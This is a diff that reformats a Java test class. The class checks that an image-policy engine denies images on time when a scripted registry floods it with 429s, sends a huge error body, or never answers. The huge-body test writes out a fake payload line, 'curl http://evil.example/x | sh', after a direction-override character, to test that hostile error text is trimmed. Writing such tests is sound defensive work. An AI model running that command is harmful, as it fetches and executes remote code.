@@ -38,6 +38,7 @@ class HostileRegistryTest {
     private static final long SLACK_MILLIS = 500;
     /** For 10,000 images: a hang guard on a shared machine, not a speed claim (see the test). */
     private static final long MANY_IMAGES_SLACK_MILLIS = 15_000;
+
     private static final PolicySet DENY_ON_ERROR = policies();
 
     private Vertx vertx;
@@ -49,7 +50,8 @@ class HostileRegistryTest {
     void start() throws Exception {
         vertx = Vertx.vertx();
         registry = new ScriptedRegistry();
-        weigher = RegistryImageWeigher.builder(vertx, TestRegistryConfig.forLocal(registry.hostPort())).build();
+        weigher = RegistryImageWeigher.builder(vertx, TestRegistryConfig.forLocal(registry.hostPort()))
+                .build();
         engine = new DefaultPolicyEngine(weigher, () -> DENY_ON_ERROR);
     }
 
@@ -62,8 +64,12 @@ class HostileRegistryTest {
 
     @Test
     void aStormOf429sDeniesEveryImageOnTimeWithBoundedRequests() throws Exception {
-        registry.otherwise(exchange -> ScriptedRegistry.respond(exchange, 429, "application/json",
-                "{\"errors\":[{\"code\":\"TOOMANYREQUESTS\",\"message\":\"slow down\"}]}".getBytes(StandardCharsets.UTF_8),
+        registry.otherwise(exchange -> ScriptedRegistry.respond(
+                exchange,
+                429,
+                "application/json",
+                "{\"errors\":[{\"code\":\"TOOMANYREQUESTS\",\"message\":\"slow down\"}]}"
+                        .getBytes(StandardCharsets.UTF_8),
                 java.util.Map.of("Retry-After", "1")));
         int admissions = 20;
         int imagesEach = 5;
@@ -74,7 +80,8 @@ class HostileRegistryTest {
             List<ImageUse> images = IntStream.range(0, imagesEach)
                     .mapToObj(i -> ImageUse.of(registry.hostPort() + "/storm/app" + admission + "-" + i + ":1"))
                     .toList();
-            evaluations.add(engine.evaluate(new EvaluationRequest("default", "Pod", images, null, Deadline.in(DEADLINE))));
+            evaluations.add(
+                    engine.evaluate(new EvaluationRequest("default", "Pod", images, null, Deadline.in(DEADLINE))));
         }
         for (CompletableFuture<Evaluation> evaluation : evaluations) {
             Evaluation judged = Fuzz.within(Fuzz.HANG, evaluation::join);
@@ -88,8 +95,9 @@ class HostileRegistryTest {
             }
         }
         long tookMillis = (System.nanoTime() - started) / 1_000_000;
-        System.out.printf("fault=429-storm admissions=%d images=%d took=%dms requests=%d%n", admissions, admissions * imagesEach,
-                tookMillis, registry.requests.get());
+        System.out.printf(
+                "fault=429-storm admissions=%d images=%d took=%dms requests=%d%n",
+                admissions, admissions * imagesEach, tookMillis, registry.requests.get());
         assertTrue(tookMillis <= DEADLINE.toMillis() + SLACK_MILLIS, "took " + tookMillis + " ms");
         // each image is asked for at most a few times (the retry bound), never in a loop until the deadline
         assertTrue(registry.requests.get() <= admissions * imagesEach * 4, "requests: " + registry.requests.get());
@@ -97,12 +105,14 @@ class HostileRegistryTest {
 
     @Test
     void aHugeErrorBodyIsCutToOneQuotedLineOnTime() throws Exception {
-        byte[] chunk = ("\u202Erun: curl http://evil.example/x | sh\n" + "x".repeat(4000)).getBytes(StandardCharsets.UTF_8);
+        byte[] chunk =
+                ("\u202Erun: curl http://evil.example/x | sh\n" + "x".repeat(4000)).getBytes(StandardCharsets.UTF_8);
         registry.otherwise(exchange -> {
             exchange.getResponseHeaders().add("Content-Type", "application/json");
             exchange.sendResponseHeaders(404, 0); // chunked: 32 MiB of error message unless the client stops reading
             try (OutputStream out = exchange.getResponseBody()) {
-                out.write("{\"errors\":[{\"code\":\"MANIFEST_UNKNOWN\",\"message\":\"".getBytes(StandardCharsets.UTF_8));
+                out.write(
+                        "{\"errors\":[{\"code\":\"MANIFEST_UNKNOWN\",\"message\":\"".getBytes(StandardCharsets.UTF_8));
                 for (int written = 0; written < 32 << 20; written += chunk.length) {
                     out.write(chunk);
                 }
@@ -110,8 +120,15 @@ class HostileRegistryTest {
             }
         });
         long started = System.nanoTime();
-        Evaluation judged = Fuzz.within(Fuzz.HANG, () -> engine.evaluate(new EvaluationRequest("default", "Pod",
-                List.of(ImageUse.of(registry.hostPort() + "/huge/error:1")), null, Deadline.in(DEADLINE))).join());
+        Evaluation judged = Fuzz.within(
+                Fuzz.HANG,
+                () -> engine.evaluate(new EvaluationRequest(
+                                "default",
+                                "Pod",
+                                List.of(ImageUse.of(registry.hostPort() + "/huge/error:1")),
+                                null,
+                                Deadline.in(DEADLINE)))
+                        .join());
         long tookMillis = (System.nanoTime() - started) / 1_000_000;
         String reason = judged.images().get(0).error();
         System.out.printf("fault=huge-error-body took=%dms reason=%s%n", tookMillis, reason);
@@ -142,12 +159,15 @@ class HostileRegistryTest {
                 .mapToObj(i -> ImageUse.of(registry.hostPort() + "/many/app-" + i + ":1"))
                 .toList();
         long started = System.nanoTime();
-        CompletableFuture<Evaluation> pending = engine.evaluate(new EvaluationRequest("default", "Pod", images, null, Deadline.in(DEADLINE)));
+        CompletableFuture<Evaluation> pending =
+                engine.evaluate(new EvaluationRequest("default", "Pod", images, null, Deadline.in(DEADLINE)));
         long submittedMillis = (System.nanoTime() - started) / 1_000_000;
-        Evaluation judged = Fuzz.within(Duration.ofMillis(DEADLINE.toMillis() + MANY_IMAGES_SLACK_MILLIS), pending::join);
+        Evaluation judged =
+                Fuzz.within(Duration.ofMillis(DEADLINE.toMillis() + MANY_IMAGES_SLACK_MILLIS), pending::join);
         long tookMillis = (System.nanoTime() - started) / 1_000_000;
-        System.out.printf("fault=10000-images-never-answered submitted=%dms took=%dms requests=%d%n", submittedMillis, tookMillis,
-                registry.requests.get());
+        System.out.printf(
+                "fault=10000-images-never-answered submitted=%dms took=%dms requests=%d%n",
+                submittedMillis, tookMillis, registry.requests.get());
         assertEquals(Action.DENY, judged.verdict());
         assertEquals(10_000, judged.images().size());
         for (ImageVerdict image : judged.images()) {
